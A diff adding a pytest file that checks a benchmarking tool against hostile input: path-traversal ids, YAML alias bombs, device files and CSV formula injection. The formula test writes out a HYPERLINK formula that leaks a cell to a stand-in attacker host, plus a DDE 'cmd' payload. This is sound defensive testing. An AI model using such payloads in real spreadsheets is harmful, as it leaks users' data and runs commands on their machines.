@@ -1,0 +1,237 @@
+"""Hostile input, round two (issue 30): each test builds its own hostile input and failed before its fix.
+
+Groups covered here: identifiers that become paths (1), inputs that explode (3: the sentence splitter, YAML alias
+bombs), formula injection in the paper's tables (5) and run folders people can share (9). No mocks: real files, the real
+`groundbench` command and papermill for the run folder."""
+import json
+import os
+import stat
+import time
+
+import pandas as pd
+import pytest
+
+from conftest import groundbench
+
+
+def one_line_error(p, *needles):
+    "A refusal as the README promises: non-zero exit, one line on standard error naming what is wrong, no traceback."
+    assert p.returncode != 0, p.stdout
+    lines = [l for l in p.stderr.splitlines() if l.strip() and "WARNING" not in l]
+    assert len(lines) == 1 and "Traceback" not in p.stderr, p.stderr[-2000:]
+    for n in needles: assert n in lines[0], lines[0]
+    return lines[0]
+
+
+# 1. identifiers that become paths
+
+@pytest.mark.parametrize("prompt_id", ["../../escaped", "/tmp/absolute-escape", "..", "a/b", ".hidden", "-dash",
+                                       "x\ny"])
+def test_a_prompt_id_never_writes_outside_the_archive(tmp_path, prompt_id):
+    "A prompts table's prompt_id is data: records stay in records/<collector>/, found again by the same id."
+    from groundbench.collect.base import Archive
+    root = tmp_path / "run" / "20_collect"
+    a = Archive(root)
+    p = a.save_record("chatgpt", prompt_id, {"prompt_id": prompt_id, "provider": "chatgpt"})
+    assert p.parent == root / "records" / "chatgpt" and p.resolve().is_relative_to(root.resolve())
+    assert a.has("chatgpt", prompt_id) and json.loads(p.read_text())["prompt_id"] == prompt_id
+    assert not any(q.is_file() for q in tmp_path.rglob("*") if not q.resolve().is_relative_to(root.resolve()))
+    assert [r["prompt_id"] for r in a.records("chatgpt")] == [prompt_id]
+    with pytest.raises(ValueError, match="not a plain file name"): a.save_record("../chatgpt", "x", {})
+    assert a.record_path("chatgpt", "X1-fact_checker-2").name == "X1-fact_checker-2.json"  # plain ids keep their name
+
+
+def test_a_poisoned_fetch_record_is_refetched_never_read_through(tmp_path):
+    "A fetch record whose sha256 is a path counts as no record; a body is only ever read by a real digest."
+    from groundbench.sources.stage import PageStore
+    secret = tmp_path / "secret.bin"
+    secret.write_bytes(b"TOP SECRET")
+    store = PageStore(tmp_path / "run" / "30_sources")
+    url = "https://example.org/a"
+    rec_path = store._rec_path(url)
+    rec_path.parent.mkdir(parents=True)
+    rec_path.write_text(json.dumps({"url": url, "final_url": url, "status": 200, "sha256": "../../../../secret"}))
+    assert store.record(url) is None
+    for bad in ("../../../../secret", "/etc/passwd", "A" * 64, ""):
+        with pytest.raises(ValueError, match="not a sha256 digest"): store.body(bad)
+    good = store.store_body(b"<html>hello</html>")
+    assert store.body(good) == b"<html>hello</html>"
+
+
+@pytest.mark.parametrize("stage", ["../nbs/10_claims", "/work/main/nbs/10_claims.ipynb", "10_claims.ipynb",
+                                   "nbs/10_claims"])
+def test_a_stage_is_a_registry_name_never_a_path(tmp_path, stage):
+    (tmp_path / "p.yaml").write_text(f"run_id: t\nstages: [{json.dumps(stage)}]\n")
+    one_line_error(groundbench("run", tmp_path / "p.yaml", "--runs-dir", tmp_path / "runs"), "field 'stages'")
+    assert not (tmp_path / "runs" / "t" / "notebooks").exists()
+
+
+# 3. inputs that explode
+
+@pytest.mark.timeout(120)  # the quadratic splitter took about 10 minutes on a million characters
+def test_a_million_character_paragraph_is_split_in_linear_time():
+    from groundbench.collect.base import segment_blocks, text_blocks
+    unit = "Dr. Smith said the U.S. rate rose 3.5 percent in J. K. Rowling's town. "
+    assert len(segment_blocks(text_blocks(unit * 3), 0)[1]) == 3  # abbreviations, initials and decimals do not split
+    n = 1_000_000 // len(unit)
+    t0 = time.perf_counter()
+    text, segs = segment_blocks(text_blocks(unit * n), 0)
+    assert len(segs) == n and len(text) == len((unit * n).strip())
+    print(f"{n * len(unit):,} characters split into {n:,} sentences in {time.perf_counter() - t0:.1f} s")
+
+
+def _bomb(levels=9) -> str:
+    "A flow mapping of nested aliases: 9 ** (levels + 1) items once expanded, a few hundred bytes written."
+    parts = ["a: &a [x, x, x, x, x, x, x, x, x]"]
+    for p, c in zip("abcdefghij"[:levels], "bcdefghijk"[:levels]):
+        parts.append(f"{c}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]")
+    return "{" + ", ".join(parts) + "}"
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("where", ["run_id", "description", "parameters", "stages"])
+def test_yaml_alias_bombs_are_refused_at_the_first_alias(tmp_path, where):
+    "Under 1 KB of nested aliases (9 ** 10 items expanded) in any field of a parameter file: refused, one short line."
+    fields = {"run_id": "t", "description": "d", "parameters": "{sample: 3}", "stages": "[10_claims]", where: _bomb()}
+    (tmp_path / "p.yaml").write_text("".join(f"{k}: {v}\n" for k, v in fields.items()))
+    assert (tmp_path / "p.yaml").stat().st_size < 1024
+    p = groundbench("run", tmp_path / "p.yaml", "--runs-dir", tmp_path / "runs")
+    line = one_line_error(p, "aliases", "not accepted")
+    assert len(line) < 600 and not (tmp_path / "runs").exists()
+
+
+# 5. formula injection
+
+def test_paper_tables_are_spreadsheet_safe_in_headers_cells_and_index(tmp_path):
+    from groundbench.core import read_table
+    from groundbench.tables import write_table_files
+    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    df = pd.DataFrame({evil: ["@SUM(1+1)", "+cmd|' /C calc'!A0", "fine"], "CR": [93.3, -1.5, 0.0],
+                       "note": ["-", "-2.5", "-x"]},
+                      index=pd.Index([evil, "ChatGPT", "\tTAB"], name="assistant"))
+    for index in (False, True):
+        (path,) = write_table_files(df, tmp_path / str(index), "table_1", "Table 1", index=index, formats=("csv",))
+        raw = pd.read_csv(path, dtype=str, keep_default_na=False)
+        cells = [c for c in raw.columns] + [v for col in raw.columns for v in raw[col]]
+        assert not any(isinstance(c, str) and c[:1] in "=+@\t\r" for c in cells), cells  # nothing a spreadsheet runs
+        assert "'" + evil in raw.columns and "'-x" in set(raw.note)
+        assert {"-", "-2.5"} <= set(raw.note)  # numbers and dashes as they were
+        assert set(raw.CR) == {"93.3", "-1.5", "0.0"}
+        if index: assert "'" + evil in set(raw.assistant) and "'\tTAB" in set(raw.assistant)
+        back = read_table(path)  # the suite's own reader gives the text back
+        assert evil in back.columns and "@SUM(1+1)" in set(back[evil])
+
+
+# 9. run folders people can share
+
+def test_run_folder_files_have_the_usual_permissions(tmp_path):
+    "Atomic writes keep the mode a new file gets under the umask (mkstemp's is owner-only): a run folder can be shared."
+    old = os.umask(0o022)
+    try:
+        (tmp_path / "p.yaml").write_text("run_id: t\nstages: [10_claims]\nparameters: {question_rewrite_sample: 0}\n")
+        groundbench("run", tmp_path / "p.yaml", "--runs-dir", tmp_path / "runs", "--no-estimate", check=True)
+    finally: os.umask(old)
+    files = [p for p in (tmp_path / "runs" / "t").rglob("*") if p.is_file()]
+    assert len(files) >= 5
+    modes = {p.relative_to(tmp_path).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in files}
+    assert all(m == 0o644 for m in modes.values()), {k: oct(m) for k, m in modes.items() if m != 0o644}
+
+
+# 2. outputs that overwrite inputs
+
+ANSWERS = "assistant,answer,urls\nBot,Garlic does not cure flu [1].,https://example.org/a\n"
+MAP = ("--map", "answer=answer", "--map", "assistant=assistant", "--map", "urls=urls")
+
+
+@pytest.mark.parametrize("name", ["rejected_rows.csv", "conversations.jsonl", "imported_answers.parquet",
+                                  "import_counts.json"])
+def test_import_never_writes_over_its_input(tmp_path, name):
+    "An input that sits in the output folder under a name the import writes is refused before anything is written."
+    out = tmp_path / "out"
+    out.mkdir()
+    src = out / name
+    src.write_text(ANSWERS)
+    p = groundbench("import", src, "--out", out, *MAP)
+    one_line_error(p, "--out", "which this command reads")
+    assert src.read_text() == ANSWERS and sorted(q.name for q in out.iterdir()) == [name]
+    if name.endswith(".csv"):  # the same table into another folder: imported
+        ok = groundbench("import", src, "--out", tmp_path / "elsewhere", *MAP, check=True)
+        assert (tmp_path / "elsewhere" / "conversations.jsonl").exists() and "1 answers" in ok.stdout
+
+
+def test_compare_and_estimate_never_write_into_a_run_s_stage_folders(tmp_path):
+    run = tmp_path / "runs" / "r"
+    (run / "20_collect").mkdir(parents=True)
+    (run / "manifest.json").write_text(json.dumps({"run_id": "r", "stages": {}}))
+    conv = run / "20_collect" / "conversations.jsonl"
+    conv.write_text("{}\n")
+    p = groundbench("compare", run, "--a", "x", "--b", "y", "--out", conv)
+    one_line_error(p, "inside the run folder r/20_collect")
+    assert conv.read_text() == "{}\n"
+    params = tmp_path / "p.yaml"
+    params.write_text("run_id: r\nstages: [10_claims]\nparameters: {question_rewrite_sample: 0}\n")
+    p = groundbench("estimate", params, "--runs-dir", tmp_path / "runs", "--out", run / "10_claims" / "e.csv")
+    one_line_error(p, "inside the run folder r/10_claims")
+    one_line_error(groundbench("estimate", params, "--out", params), "which this command reads")
+    assert params.read_text().startswith("run_id: r") and not (run / "10_claims").exists()
+
+
+# 4. silent wrong data
+
+PAIR_COLS = ("--claim-col", "claim", "--evidence-col", "evidence", "--label-col", "label")
+
+def test_a_repeated_header_is_refused_not_renamed(tmp_path):
+    "`answer,answer` was read by pandas as `answer` and `answer.1`, silently dropping the second column."
+    src = tmp_path / "answers.csv"
+    src.write_text("assistant,answer,answer,urls\nBot,First text.,Second text.,https://example.org/a\n")
+    p = groundbench("import", src, "--out", tmp_path / "out", *MAP)
+    one_line_error(p, "answers.csv: row 1: columns ['answer'] appear more than once")
+    pairs = tmp_path / "pairs.csv"
+    pairs.write_text("claim,evidence,evidence,label\nGarlic cures flu.,No trial shows it.,A blog says so.,refuted\n")
+    p = groundbench("validate-judge", pairs, *PAIR_COLS, "--out", tmp_path / "v")
+    one_line_error(p, "pairs.csv: row 1: columns ['evidence'] appear more than once")
+
+
+def test_single_class_labels_are_said_and_the_json_is_json(tmp_path):
+    "Human labels of one class only: kappa is undefined, which the command says; its JSON has no NaN or Infinity."
+    pairs = tmp_path / "pairs.csv"
+    rows = [f"Claim {i} about garlic.,Evidence {i}: garlic is a plant used in cooking.,supported" for i in range(8)]
+    pairs.write_text("claim,evidence,label\n" + "\n".join(rows) + "\n")
+    p = groundbench("validate-judge", pairs, *PAIR_COLS, "--no-judge", "--n-boot", "50", "--out", tmp_path / "v",
+                    check=True)
+    assert "note: every test row's human label is 'supported': kappa is undefined" in p.stdout
+    text = (tmp_path / "v" / "pairs_validation.json").read_text()
+    json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in the JSON"))
+    assert json.loads(text)["notes"]
+
+
+# 8. special files
+
+@pytest.mark.timeout(60)
+def test_devices_and_pipes_are_refused_not_read(tmp_path):
+    "/dev/zero never ends and a FIFO blocks: as a parameter file, an import or a pairs table, each is refused by name."
+    fifo = tmp_path / "answers.csv"
+    os.mkfifo(fifo)
+    one_line_error(groundbench("run", "/dev/zero"), "/dev/zero: not a regular file")
+    p = groundbench("import", fifo, "--out", tmp_path / "o", "--map", "answer=answer", "--map", "assistant=a")
+    one_line_error(p, "answers.csv: not a regular file")
+    p = groundbench("validate-judge", "/dev/zero", *PAIR_COLS, "--no-judge", "--out", tmp_path / "v")
+    one_line_error(p, "not a regular file")
+
+
+# 6. one bad file breaks nothing else
+
+def test_an_earlier_run_with_a_broken_manifest_never_stops_an_estimate(tmp_path):
+    runs = tmp_path / "runs"
+    llm = {"question_rewrite": {"requests": 2, "calls": "abc", "prompt_tokens": 600, "completion_tokens": 40}}
+    model = {"llm": {"model": "smollm2-135m-instruct"}}
+    for name, manifest in (("bad", {"models": model, "stages": {"10_claims": {"status": "done", "llm": llm}}}),
+                           ("worse", {"models": model, "stages": {"10_claims": []}})):
+        (runs / name).mkdir(parents=True)
+        (runs / name / "manifest.json").write_text(json.dumps(manifest))
+    params = tmp_path / "p.yaml"
+    params.write_text("run_id: new\nstages: [10_claims]\nparameters: {question_rewrite_sample: 2}\n")
+    p = groundbench("estimate", params, "--runs-dir", runs, check=True)
+    assert "question_rewrite" in p.stdout
+    assert ("bad/manifest.json: not used as history (stage '10_claims', step 'question_rewrite': calls is 'abc'"
+            in p.stderr)
